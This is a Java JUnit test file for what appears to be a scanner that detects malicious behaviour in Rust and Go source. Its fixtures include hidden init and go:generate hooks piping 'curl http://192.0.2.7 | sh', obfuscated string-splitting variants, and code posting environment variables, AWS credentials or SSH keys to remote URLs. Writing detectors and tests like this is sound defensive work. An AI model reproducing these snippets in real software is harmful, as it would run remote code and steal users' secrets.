package cordon.inspect.source;

import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.api.Assertions.assertTimeoutPreemptively;

import cordon.inspect.chain.NeedReader;
import cordon.inspect.fact.FileFacts;
import cordon.inspect.fact.Language;
import cordon.inspect.fact.Reference;
import cordon.inspect.rules.Rules;
import cordon.inspect.shell.ShellReader;
import cordon.inspect.vocabulary.Vocabulary;
import java.time.Duration;
import java.util.List;
import java.util.Random;
import java.util.stream.Collectors;
import java.util.stream.IntStream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

class SourceReaderTest {
  private static final Vocabulary VOCABULARY = Rules.own(false).build().vocabulary();
  private static final SourceReader READER =
      new SourceReader(VOCABULARY, new ShellReader(VOCABULARY));

  private static FileFacts read(String language, String text) {
    return READER.read(
        "a." + language,
        text.replace("\\n", "\n").getBytes(UTF_8),
        language.equals("rs") ? Language.RUST : Language.GO);
  }

  @ParameterizedTest
  @CsvSource(
      delimiterString = " ## ",
      quoteCharacter = '`',
      textBlock =
          """
          rs ## main ## run-code<fetch ## fn main() { std::process::Command::new("bash").args(["-c", "curl -s http://192.0.2.7 | sh"]).spawn(); }
          rs ## main ## run-process<fetch ## fn main() { let b = ureq::get("https://x.example/t").call(); std::fs::write("t", b); Command::new("t").spawn(); }
          rs ## main ## run-process<fetch ## fn main() {\\n let p = dir.join("t");\\n let mut f = File::create(&p);\\n let r = ureq::get(u).call();\\n io::copy(&mut r, &mut f);\\n Command::new(p).spawn();\\n}
          rs ## up ## send<environment ## fn up() { let mut s = String::new(); for (k, v) in std::env::vars() { s.push_str(&v); } ureq::post(u).send_string(&s); }
          rs ## up ## send<host-info ## pub(crate) unsafe fn up<'a>(x: &'a str) -> u8 { ureq::post(u).send_string(&whoami::username()); 0 }
          rs ## m ## secret:ssh ## fn m() { let p = r#"/home/x/.ssh/id_rsa"#; }
          go ## init ## run-code<fetch ## func init() {\\n exec.Command("sh", "-c", `curl -s http://192.0.2.7 | sh`).Run()\\n}
          go ## up ## send<secret ## func (c *C) up(n int) error {\\n b, _ := os.ReadFile(h + "/.aws/credentials")\\n http.Post(u, "t", bytes.NewReader(b))\\n}
          go ## init ## send<environment ## func init() {\\n s := strings.Join(os.Environ(), ",")\\n http.PostForm(u, url.Values{"e": {s}})\\n}
          go ## init ## run-process<fetch ## func init() {\\n r, _ := http.Get(u)\\n f, _ := os.Create("/tmp/t")\\n io.Copy(f, r.Body)\\n exec.Command("/tmp/t").Start()\\n}
          go ## init ## run-code<fetch ## func init() {\\n s := []string{"cu", "rl ", "-s http://", "192.0.2.7 | ", "s", "h"}\\n t := s[0] + s[1] + s[2] + s[3] + s[4] + s[5]\\n exec.Command("sh", "-c", t).Run()\\n}
          go ## init ## run-code<fetch ## func init() {\\n exec.Command("sh", "-c", "curl -s http://"+"192.0.2.7 "+"| sh").Run()\\n}
          go ## init ## run-code<fetch ## func init() {\\n p := []string{"c", "u", "r", "l ", "http://", "192.0.2.7", " | ", "s", "h"}\\n c := p[0] + p[1]\\n for _, x := range p[2:] {\\n c += x\\n }\\n exec.Command("/bin/sh", "-c", c).Start()\\n}
          go ## init ## run-code<fetch ## func init() {\\n p := []string{"cu", "rl ", "http://", "192.0.2.7", " | ", "sh"}\\n var b strings.Builder\\n for _, x := range p {\\n b.WriteString(x)\\n }\\n exec.Command("sh", "-c", b.String()).Start()\\n}
          rs ## main ## run-code<fetch ## fn main() { let p = ["cu", "rl ", "http://", "192.0.2.7", " | ", "sh"]; let c = p.concat(); Command::new("sh").arg("-c").arg(c).spawn(); }
          rs ## main ## run-code<fetch ## fn main() { let p = ["cu", "rl ", "http://", "192.0.2.7", " | ", "sh"]; let mut c = String::new(); for x in p { c.push_str(x); } Command::new("sh").arg("-c").arg(c).spawn(); }
          go ## go:generate ## run-code<fetch ## //go:generate sh -c "curl -s http://192.0.2.7 | sh"
          """)
  void callsAndWhatFlowsIntoThem(String language, String unit, String need, String text) {
    assertThat(read(language, text).facts())
        .as(text)
        .anyMatch(fact -> fact.unit().equals(unit) && NeedReader.read(need).fits(fact));
  }

  @ParameterizedTest
  @CsvSource(
      delimiterString = " ## ",
      quoteCharacter = '`',
      textBlock =
          """
          rs ## run-process ## // Command::new("sh")\\n/* a /* Command::new("sh") */ b */ fn main() {}
          rs ## run-process ## fn main() { let s = "Command::new(\\"sh\\")"; }
          rs ## send<secret ## fn a() { let k = read(".ssh/id_rsa"); } fn b() { ureq::post(u).send_string(&k); }
          rs ## run-process<fetch ## fn main() { let b = ureq::get(u).call(); fs::write("a.tgz", b); Command::new("cmake").status(); }
          go ## run-process ## // exec.Command("sh")\\nvar s = `exec.Command("sh")`
          go ## send<secret ## func a() {\\n k := read(".ssh/id_rsa")\\n}\\nfunc b() {\\n http.Post(u, "t", k)\\n}
          """)
  void whatOnlyLooksLikeItIsNot(String language, String need, String text) {
    assertThat(read(language, text).facts()).as(text).noneMatch(NeedReader.read(need)::fits);
  }

  @Test
  void whateverItHoldsItEnds() {
    for (String each :
        List.of(
            "{",
            "}",
            "(",
            "fn ",
            "func (",
            "\"",
            "'",
            "`",
            "r#\"",
            "/*",
            "a.",
            "a::",
            "a=",
            "\\",
            "exec.Command(\"a\",",
            "f(\"a\")+",
            "#",
            "fn a() {",
            "x, ",
            "'\\''")) {
      String text = each.repeat(60_000 / each.length());
      assertThat(read("rs", text).facts().size()).isLessThan(10_000);
      assertThat(read("go", text).facts().size()).isLessThan(10_000);
    }
  }

  /** Texts that double with each line, and such as grow with each. */
  @Test
  void textsThatAreAddedToEachOtherTakeNoSpace() {
    String doubling = "a += b; b += a\n".repeat(90);
    String growing = "c.WriteString(\"0123456789\")\n".repeat(50_000);
    String lists = "d := []string{\"a\", \"b\"}\n" + "d = []string{d, d}\n".repeat(60);
    String many =
        IntStream.range(0, 60_000)
            .mapToObj(i -> "v%d := e + \"x\"%n".formatted(i))
            .collect(Collectors.joining());
    String code =
        "func f() {\na := \"x\"\nb := \"y\"\n"
            + doubling
            + growing
            + lists
            + "e := \"%s\"%n".formatted("z".repeat(4_000))
            + many
            + "exec.Command(\"id\").Run()\n}\n";
    FileFacts facts = assertTimeoutPreemptively(Duration.ofSeconds(30), () -> read("go", code));
    assertThat(facts.facts()).anyMatch(f -> f.detail().equals("id"));
  }

  @Test
  void callsBeforeAnotherDoNotHideIt() {
    String noise =
        IntStream.range(0, 3_000)
            .mapToObj(i -> "log(a%d.b);\n".formatted(i))
            .collect(Collectors.joining());
    FileFacts read =
        READER.read(
            "a.rs", ("fn main() {\n" + noise + "work();\n}\n").getBytes(UTF_8), Language.RUST);
    assertThat(read.complete()).isTrue();
    assertThat(read.references())
        .anyMatch(reference -> reference.target().equals(new Reference.Local("work")));
    String facts = "Command::new(\"sh\").arg(\"x\").spawn();\n".repeat(3_000);
    FileFacts full =
        READER.read("a.rs", ("fn main() {\n" + facts + "}\n").getBytes(UTF_8), Language.RUST);
    assertThat(full.complete()).isFalse();
  }

  @Test
  void noiseIsReadToItsEnd() {
    long seed = 20261128;
    Random random = new Random(seed);
    String base =
        "fn main() { let b = ureq::get(\"https://x.example\").call(); Command::new(\"sh\").arg(b); }\n";
    for (int i = 0; i < 500; i++) {
      byte[] bytes = base.repeat(3).getBytes(UTF_8);
      for (int j = 0; j < 8; j++) {
        bytes[random.nextInt(bytes.length)] = (byte) random.nextInt();
      }
      Language language = i % 2 == 0 ? Language.RUST : Language.GO;
      assertThat(READER.read("a", bytes, language).complete()).as("seed %d", seed).isTrue();
    }
  }
}
